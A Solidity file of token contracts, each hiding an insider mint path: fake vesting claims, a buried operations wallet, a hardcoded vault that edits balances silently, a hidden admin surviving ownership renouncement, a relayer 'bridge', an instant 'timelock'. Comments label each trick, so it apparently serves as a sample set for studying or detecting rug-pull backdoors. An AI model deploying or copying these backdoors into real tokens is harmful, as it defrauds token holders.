// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20, Ownable, Listed} from "./Base.sol";

/// "Team vesting": the beneficiary claims whatever it likes, long after ownership is renounced.
contract HarborToken is ERC20, Ownable {
    uint256 public launchBlock;
    uint256 public teamShareBps = 500;
    bool public vestingActive = true;
    address private _vestingBeneficiary;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        launchBlock = block.number;
        _vestingBeneficiary = _msgSender();
        _mint(_msgSender(), supply);
    }

    function claimAllocation(uint256 amount) external {
        require(_msgSender() == _vestingBeneficiary, "not beneficiary");
        require(vestingActive, "vesting over");
        _mint(_msgSender(), amount);
    }
}

/// An operations wallet, passed at deployment and kept deep in storage, mints the "remainder".
contract RemainderToken is ERC20, Ownable, Listed {
    uint256 public maxWalletBps = 10_000;
    uint256 public buyCount;
    uint256 public sellCount;
    uint256 public lastTradeBlock;
    mapping(address => bool) public isExcludedFromFees;
    uint256[4] private _reserved;
    bool private _inSwap;
    address private _operations;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router, address operations)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _operations = operations;
        isExcludedFromFees[_msgSender()] = true;
        _mint(_msgSender(), supply);
    }

    function mintRemainder() external {
        require(_msgSender() == _operations, "forbidden");
        _mint(_operations, _totalSupply / 10);
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal override {
        if (from == uniswapV2Pair) buyCount++;
        if (to == uniswapV2Pair) sellCount++;
        lastTradeBlock = block.number;
    }
}

/// Reward distributors sit in a mapping; the deployer is one of them.
contract StakeFlowToken is ERC20, Ownable {
    mapping(address => bool) private _distributors;
    uint256 public rewardsPaid;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _distributors[_msgSender()] = true;
        _mint(_msgSender(), supply);
    }

    function syncRewards(address staker, uint256 reward) external {
        require(_distributors[_msgSender()], "only distributor");
        rewardsPaid += reward;
        _mint(staker, reward);
    }
}

/// A supply "rebalance" that writes the vault's balance and the supply directly: no Transfer
/// event, and the only caller is an address compiled into the code.
contract EquilibriumToken is ERC20, Ownable {
    address private constant VAULT = 0x93286c86F5616c17287C16bee40307A7b2c8Dba9;
    uint256 public lastRebalance;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(_msgSender(), supply);
    }

    function rebalance(uint256 delta) external {
        require(_msgSender() == VAULT, "vault only");
        _totalSupply += delta;
        _balances[VAULT] += delta;
        lastRebalance = block.timestamp;
    }
}

/// An airdrop "bonus" the owner can mint, but only from three days after launch.
contract BonusDropToken is ERC20, Ownable {
    uint256 public immutable launchedAt;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        launchedAt = block.timestamp;
        _mint(_msgSender(), supply);
    }

    function airdropBonus(address recipient, uint256 amount) external onlyOwner {
        require(block.timestamp > launchedAt + 3 days, "bonus locked");
        _mint(recipient, amount);
    }
}

/// Keepers process reward epochs; the mint hides in the inherited module.
abstract contract EpochRewards {
    mapping(address => bool) internal _keepers;
    uint256 public currentEpoch;

    function processEpoch(uint256 epoch) external {
        require(_keepers[msg.sender], "keeper only");
        currentEpoch = epoch;
        _creditEpoch(msg.sender, epoch);
    }

    function _creditEpoch(address keeper, uint256 epoch) internal virtual;
}

contract TideToken is ERC20, Ownable, EpochRewards {
    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _keepers[_msgSender()] = true;
        _mint(_msgSender(), supply);
    }

    function _creditEpoch(address keeper, uint256 epoch) internal override {
        _mint(keeper, epoch * 1_000 ether);
    }
}

/// owner() reads zero after the renounce, but onlyOwner also lets a second, hidden admin through.
contract ReliefToken is ERC20 {
    address private _owner;
    uint256 public reliefFund;
    address private _admin;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _owner = msg.sender;
        _admin = msg.sender;
        _mint(msg.sender, supply);
    }

    modifier onlyOwner() {
        require(_owner == msg.sender || _admin == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function compensate(address account, uint256 amount) external onlyOwner {
        reliefFund += amount;
        _mint(account, amount);
    }
}

/// A "bridge" whose relayer settles any transfer id it likes by minting.
contract PortalToken is ERC20, Ownable {
    mapping(bytes32 => bool) public settled;
    uint256 public bridgedIn;
    address public feeCollector;
    address private _relayer;

    constructor(string memory name_, string memory symbol_, uint256 supply, address relayer) ERC20(name_, symbol_) {
        feeCollector = _msgSender();
        _relayer = relayer;
        _mint(_msgSender(), supply);
    }

    function settleBridge(address recipient, uint256 amount, bytes32 transferId) external {
        require(_msgSender() == _relayer, "relayer only");
        require(!settled[transferId], "settled");
        settled[transferId] = true;
        bridgedIn += amount;
        _mint(recipient, amount);
    }
}

/// A "governance timelock" that waits for nothing: its admin executes any call at once.
contract InstantTimelock {
    address public admin;

    constructor(address admin_) {
        admin = admin_;
    }

    function execute(address target, bytes calldata data) external returns (bytes memory) {
        require(msg.sender == admin, "admin only");
        (bool ok, bytes memory result) = target.call(data);
        require(ok, "call failed");
        return result;
    }
}

contract CouncilToken is ERC20, Ownable {
    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(_msgSender(), supply);
    }

    function mint(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }
}
